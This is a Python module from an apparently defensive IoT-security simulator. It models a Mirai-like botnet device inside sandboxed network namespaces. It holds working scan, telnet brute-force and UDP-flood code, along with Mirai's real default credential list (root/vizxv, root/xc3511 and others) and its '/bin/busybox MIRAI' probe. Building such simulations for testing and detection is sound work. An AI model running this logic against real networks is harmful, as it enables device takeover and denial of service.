"""A device that turns Mirai-like: it looks for telnet, tries the pairs that Mirai tries, then floods; all bounded.

Every packet stays inside the namespaces of the sample site.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import socket
import time
from collections.abc import Callable
from typing import Final

from thingward.apps.simulator.site import VICTIM, SampleSite, SimDevice
from thingward.runtime.netns import NetworkNamespace

PAIRS: Final = (
    ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"),
    ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"), ("root", "xc3511"),
)  # fmt: skip
SCAN_HZ: Final = 40.0
SCAN_MAX: Final = 600
FLOOD_HZ: Final = 1500.0
FLOOD_MAX: Final = 9000
FLOOD_BYTES: Final = 64
PATIENCE_S: Final = 1.2

Tell = Callable[[str], None]


class MiraiLike:
    """One attack.

    Attributes:
        began: when its first packet went out, seconds since 1970; 0 before.
        sent: packets and connections tried so far. phase: what it does now.
    """

    def __init__(
        self, site: SampleSite, device: SimDevice, namespace: NetworkNamespace, *, draw: random.Random, tell: Tell
    ) -> None:
        self.began = 0.0
        self.sent = 0
        self.phase = "waiting"
        self.device = device
        self._site = site
        self._namespace = namespace
        self._draw = draw
        self._tell = tell
        self._found: list[str] = []

    async def run(self) -> None:
        """Do all of it, or what the network lets through."""
        self._enter("scan", "looks for telnet all over the site and the internet")
        await self._scan()
        self._enter("guess", f"tries known user names and passwords on {len(self._found)} hosts")
        for host in self._found:
            await self._guess(host)
        self._enter("flood", f"floods {VICTIM}")
        await self._flood()
        self._enter("over", "has done what it could")

    def _enter(self, phase: str, words: str) -> None:
        self.phase = phase
        self._tell(f"{self.device.hostname} {words}")

    async def _scan(self) -> None:
        neighbours = [device.address for device in self._site.devices if device.key != self.device.key]
        self._draw.shuffle(neighbours)
        targets = neighbours + [f"203.0.113.{self._draw.randrange(1, 250)}" for _ in range(SCAN_MAX - len(neighbours))]
        self._draw.shuffle(targets)
        tries: set[asyncio.Task[None]] = set()
        for number, target in enumerate(targets):
            port = 2323 if number % 10 == 9 and target not in neighbours else 23
            task = asyncio.ensure_future(self._knock(target, port))
            tries.add(task)
            task.add_done_callback(tries.discard)
            await asyncio.sleep(1 / SCAN_HZ)
            if len(self._found) >= 2:
                break
        await asyncio.gather(*tries)

    async def _knock(self, target: str, port: int) -> None:
        sock = self._namespace.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            self.began = self.began or time.time()
            self.sent += 1
            async with asyncio.timeout(PATIENCE_S):
                await asyncio.get_running_loop().sock_connect(sock, (target, port))
            if port == 23:
                self._found.append(target)
        except (OSError, TimeoutError):
            pass
        finally:
            sock.close()

    async def _guess(self, host: str) -> None:
        for start in range(0, len(PAIRS), 3):
            with contextlib.suppress(OSError, TimeoutError, EOFError):
                async with asyncio.timeout(4 * PATIENCE_S):
                    await self._log_in(host, PAIRS[start : start + 3])

    async def _log_in(self, host: str, pairs: tuple[tuple[str, str], ...]) -> None:
        sock = self._namespace.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            await asyncio.get_running_loop().sock_connect(sock, (host, 23))
            reader, writer = await asyncio.open_connection(sock=sock)
        except BaseException:
            sock.close()
            raise
        try:
            for user, password in pairs:
                await reader.readuntil(b"login: ")
                writer.write(user.encode() + b"\r\n")
                await reader.readuntil(b"Password: ")
                writer.write(password.encode() + b"\r\n")
                self.sent += 1
                if b"#" in await reader.read(200):
                    writer.write(b"/bin/busybox MIRAI\r\n")
                    self._tell(f"{self.device.hostname} got into {host}")
                    return
        finally:
            writer.close()

    async def _flood(self) -> None:
        sock = self._namespace.socket(socket.AF_INET, socket.SOCK_DGRAM)
        payload = self._draw.randbytes(FLOOD_BYTES)
        burst = int(FLOOD_HZ / 100)
        try:
            self.began = self.began or time.time()
            for _ in range(0, FLOOD_MAX, burst):
                for _ in range(burst):
                    with contextlib.suppress(OSError):
                        sock.sendto(payload, (VICTIM, 80))
                        self.sent += 1
                await asyncio.sleep(0.01)
        finally:
            sock.close()
